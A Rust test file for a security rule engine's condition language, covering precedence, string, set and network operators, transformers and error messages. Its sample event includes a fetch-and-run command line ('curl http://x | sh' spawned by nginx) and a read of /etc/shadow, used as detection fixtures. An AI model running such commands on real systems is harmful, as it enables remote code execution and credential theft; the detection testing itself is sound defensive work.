//! The condition language: grammar, precedence, every operator, list
//! fields, unextractable fields, transformers, field arguments.
#![allow(clippy::unwrap_used, clippy::panic)]

mod common;
use common::{compile_errors, holds};
use palisade_runtime::condition::{Expr, Op, Rhs, parse};

const EV: &str = r#"{"evt.type":"execve","evt.dir":"<","proc.name":"bash","proc.pname":"nginx",
"proc.cmdline":"bash -c 'curl http://x | sh'","proc.aname":["nginx","containerd-shim","systemd"],
"fd.name":"/etc/shadow","fd.num":3,"evt.rawres":-1,"container.id":"abc123","user.name":"root",
"proc.env":"HOME=/root","evt.buffer":"hello\u0001world","fd.sport":4444,"flag":true,
"proc.args":"aGVsbG8=","tags":["a","b"],"obj":{"k":"v"}}"#;

#[test]
fn precedence_not_and_or() {
    // `or` binds looser than `and`: a or (b and c)
    assert!(holds(
        "proc.name = bash or proc.name = x and proc.name = y",
        EV
    ));
    // (a or b) and c
    assert!(!holds(
        "(proc.name = bash or proc.name = x) and proc.name = y",
        EV
    ));
    // `not` binds tighter than `and`
    assert!(holds("not proc.name = x and proc.name = bash", EV));
    assert!(!holds("not (proc.name = bash and proc.pname = nginx)", EV));
    assert!(holds("not not proc.name = bash", EV));
    assert!(holds("not(proc.name=x)", EV));
    // Long chains
    assert!(holds(
        "proc.name = a or proc.name = b or proc.name = c or proc.name = bash",
        EV
    ));
    assert!(!holds(
        "proc.name = bash and proc.pname = nginx and fd.num = 4",
        EV
    ));
}

#[test]
fn syntax_tree_shape() {
    let e = parse("a and b or not c and d").unwrap();
    let Expr::Or(items) = e else {
        panic!("expected or")
    };
    assert_eq!(items.len(), 2);
    assert!(matches!(&items[0], Expr::And(v) if v.len() == 2));
    assert!(matches!(&items[1], Expr::And(v) if matches!(v[0], Expr::Not(_))));
    let e = parse("proc.aname[2] = sh").unwrap();
    let Expr::Check(c) = e else { panic!() };
    assert_eq!(c.field.arg.as_deref(), Some("2"));
    assert_eq!(c.op, Op::Eq);
    let e = parse("ka.uri startswith /healthz?").unwrap();
    let Expr::Check(c) = e else { panic!() };
    assert!(matches!(&c.rhs, Rhs::Value(v) if v.text == "/healthz?"));
    let e = parse("evt.dir = <").unwrap();
    let Expr::Check(c) = e else { panic!() };
    assert!(matches!(&c.rhs, Rhs::Value(v) if v.text == "<"));
    let e = parse(r#"proc.name in (a, "b c", 'd\'e')"#).unwrap();
    let Expr::Check(c) = e else { panic!() };
    let Rhs::List(items) = &c.rhs else { panic!() };
    let texts: Vec<&str> = items.iter().map(|i| i.text.as_str()).collect();
    assert_eq!(texts, ["a", "b c", "d'e"]);
}

#[test]
fn syntax_errors_give_positions() {
    for (cond, want) in [
        ("proc.name = ", "expected a value"),
        ("(proc.name = bash", "unbalanced `(`"),
        ("proc.name = bash)", "unexpected text"),
        ("proc.name bash", "expected a comparison operator"),
        ("proc.name in bash", "parenthesised list"),
        ("proc.name = bash and", "unexpected end"),
        ("proc.name = 'abc", "unterminated quoted string"),
        ("proc.name in (a, b", "list not closed"),
        ("and proc.name = x", "`and` where a check was expected"),
        ("", "empty condition"),
    ] {
        let err = parse(cond).unwrap_err().to_string();
        assert!(err.contains(want), "{cond:?}: {err}");
        assert!(err.contains("column"), "{cond:?}: {err}");
    }
    let err = parse("proc.name = bash and\n  (fd.name = x or")
        .unwrap_err()
        .to_string();
    assert!(err.contains("condition line 2"), "{err}");
}

#[test]
fn nesting_is_bounded() {
    let deep = format!("{}proc.name = bash{}", "(".repeat(500), ")".repeat(500));
    assert!(
        parse(&deep)
            .unwrap_err()
            .to_string()
            .contains("nested deeper")
    );
    let nots = format!("{}proc.name = bash", "not ".repeat(500));
    assert!(parse(&nots).is_err());
}

#[test]
fn equality_and_ordering() {
    assert!(holds("proc.name = bash", EV));
    assert!(holds("proc.name == bash", EV));
    assert!(holds("proc.name != sh", EV));
    assert!(!holds("proc.name != bash", EV));
    assert!(holds("fd.num = 3", EV));
    assert!(holds("fd.num >= 0", EV));
    assert!(holds("fd.num>=0", EV));
    assert!(holds("fd.num < 10 and fd.num <= 3 and fd.num > 2", EV));
    assert!(holds("evt.rawres < 0", EV));
    assert!(!holds("evt.rawres >= 0", EV));
    assert!(holds("evt.dir = <", EV));
    assert!(holds("flag = true", EV));
    assert!(!holds("flag = false", EV));
    // strings compare lexicographically
    assert!(holds("proc.name < c", EV));
    assert!(holds("user.name = 'root'", EV));
}

#[test]
fn string_operators() {
    assert!(holds("proc.cmdline contains curl", EV));
    assert!(holds("proc.cmdline contains \"| sh\"", EV));
    assert!(holds("proc.cmdline icontains CURL", EV));
    assert!(!holds("proc.cmdline contains CURL", EV));
    assert!(holds("fd.name startswith /etc", EV));
    assert!(holds("fd.name endswith shadow", EV));
    assert!(!holds("fd.name endswith passwd", EV));
    assert!(holds("fd.name glob '/etc/*'", EV));
    assert!(holds("fd.name glob /etc/sh?dow", EV));
    assert!(holds("fd.name iglob /ETC/*", EV));
    assert!(!holds("fd.name glob /usr/*", EV));
    assert!(holds("proc.name regex 'ba.h'", EV));
    // regex must match the whole value
    assert!(!holds("proc.name regex 'as'", EV));
    assert!(holds("proc.name regex '.*as.*'", EV));
    // bcontains / bstartswith take hex
    assert!(holds("evt.buffer bcontains 6f01", EV));
    assert!(holds("evt.buffer bstartswith 68656c", EV));
    assert!(!holds("evt.buffer bstartswith 6f", EV));
}

#[test]
fn set_operators() {
    assert!(holds("proc.name in (sh, bash, zsh)", EV));
    assert!(holds("proc.name in(sh,bash)", EV));
    assert!(!holds("proc.name in (sh, zsh)", EV));
    assert!(!holds("proc.name in ()", EV));
    assert!(holds("proc.name intersects (bash)", EV));
    assert!(holds("fd.sport in (3333, 4444)", EV));
    assert!(holds("fd.name pmatch (/etc, /usr/bin)", EV));
    assert!(holds("fd.name pmatch (/etc/shadow)", EV));
    assert!(!holds("fd.name pmatch (/et, /usr)", EV));
    assert!(holds("fd.name exists", EV));
    assert!(!holds("fd.nope exists", EV));
}

#[test]
fn unextractable_fields_make_every_comparison_false() {
    for cond in [
        "nope.field = x",
        "nope.field != x",
        "nope.field contains x",
        "nope.field in (x)",
        "nope.field < 3",
        "nope.field exists",
        "nope.field glob *",
    ] {
        assert!(!holds(cond, EV), "{cond}");
        assert!(holds(&format!("not {cond}"), EV), "not {cond}");
    }
    // null is not a value
    assert!(!holds("x.y exists", r#"{"evt.type":"open","x.y":null}"#));
}

#[test]
fn ancestors_and_arguments() {
    assert!(holds("proc.aname[0] = bash", EV));
    assert!(holds("proc.aname[1] = nginx", EV));
    assert!(holds("proc.aname[2] = containerd-shim", EV));
    assert!(holds("proc.aname[3] = systemd", EV));
    assert!(!holds("proc.aname[4] exists", EV));
    // without an index: any ancestor
    assert!(holds("proc.aname = systemd", EV));
    assert!(holds("proc.aname in (systemd, init)", EV));
    assert!(!holds("proc.aname = bash", EV));
    // explicit keys with arguments win
    assert!(holds(
        "proc.aname[2] = explicit",
        r#"{"proc.aname[2]":"explicit"}"#
    ));
    // objects indexed by key, arrays by index
    assert!(holds("obj[k] = v", EV));
    assert!(holds("tags[1] = b", EV));
}

#[test]
fn array_values_match_any_element_except_in() {
    assert!(holds("tags = a", EV));
    assert!(holds("tags intersects (b, z)", EV));
    assert!(holds("tags in (a, b, c)", EV));
    assert!(
        holds("tags in (a, z)", EV),
        "scalar-kind arrays: any element"
    );
}

#[test]
fn transformers() {
    assert!(holds("toupper(proc.name) = BASH", EV));
    assert!(holds("tolower(toupper(proc.name)) = bash", EV));
    assert!(holds("basename(fd.name) = shadow", EV));
    assert!(holds("len(proc.name) = 4", EV));
    assert!(holds("len(proc.name) > 3", EV));
    assert!(holds("b64(proc.args) = hello", EV));
    assert!(holds("tolower(proc.name) in (bash, sh)", EV));
}

#[test]
fn field_on_the_right() {
    assert!(holds("proc.name != val(proc.pname)", EV));
    assert!(!holds("proc.name = val(proc.pname)", EV));
    assert!(holds("proc.name = val(proc.aname[0])", EV));
    assert!(holds("proc.cmdline contains val(proc.name)", EV));
    assert!(holds("toupper(proc.name) = toupper(proc.name)", EV));
    // a missing right-hand field makes the comparison false
    assert!(!holds("proc.name != val(nope.x)", EV));
}

#[test]
fn compile_errors_name_rule_and_position() {
    let errs = compile_errors(
        "- rule: Bad regex\n  desc: d\n  condition: proc.name regex '('\n  output: o\n  priority: INFO\n",
    );
    assert_eq!(errs.len(), 1);
    assert!(
        errs[0].starts_with("test.yaml:1: rule `Bad regex`"),
        "{}",
        errs[0]
    );
    assert!(errs[0].contains("invalid regex"), "{}", errs[0]);
    assert!(errs[0].contains("column 1"), "{}", errs[0]);

    let errs = compile_errors(
        "- rule: Bad hex\n  desc: d\n  condition: evt.type = x and evt.buffer bcontains zz\n  output: o\n  priority: INFO\n",
    );
    assert!(errs[0].contains("hexadecimal"), "{}", errs[0]);
    assert!(errs[0].contains("column 18"), "{}", errs[0]);

    let errs = compile_errors(
        "- rule: Syntax\n  desc: d\n  condition: proc.name = bash and (fd.name = x\n  output: o\n  priority: INFO\n",
    );
    assert!(
        errs[0].contains("rule `Syntax`: syntax error"),
        "{}",
        errs[0]
    );
    assert!(errs[0].contains("column 22"), "{}", errs[0]);
}

#[test]
fn networks_and_derived_fd_fields() {
    let ev = r#"{"evt.type":"connect","fd.cip":"10.1.2.3","fd.sip":"203.0.113.9","fd.cport":40000,"fd.sport":443,"fd.sip6":"2001:db8::1"}"#;
    assert!(holds("fd.snet in (203.0.113.0/24)", ev));
    assert!(!holds("fd.snet in (10.0.0.0/8, 192.168.0.0/16)", ev));
    assert!(holds("fd.cnet in (10.0.0.0/8, 172.16.0.0/12)", ev));
    assert!(holds("fd.net = 10.0.0.0/8", ev), "either end");
    assert!(holds("fd.ip = 203.0.113.9", ev));
    assert!(holds("fd.port = 443", ev));
    assert!(holds("fd.sip in (203.0.113.9)", ev));
    assert!(holds("fd.sip6 in (2001:db8::/32)", ev));
    assert!(!holds("fd.sip6 in (2001:db9::/32)", ev));
    assert!(holds("fd.sip != 1.2.3.0/24", ev));
    // the event's own key wins over the derived one
    assert!(holds(
        "fd.snet = x",
        r#"{"fd.snet":"x","fd.sip":"1.2.3.4"}"#
    ));
}
